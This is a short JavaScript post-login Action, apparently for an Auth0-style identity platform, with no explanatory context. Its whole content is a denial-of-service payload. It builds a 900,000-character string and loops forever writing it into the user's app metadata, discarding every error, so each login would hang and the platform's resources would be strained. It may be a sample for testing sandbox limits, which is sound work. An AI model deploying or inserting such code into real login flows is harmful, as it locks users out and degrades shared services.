exports.onExecutePostLogin = async (event, api) => {
  const name = 'n'.repeat(9e5);
  for (;;) { try { api.user.setAppMetadata(name, undefined); } catch (e) { void e; } }
};
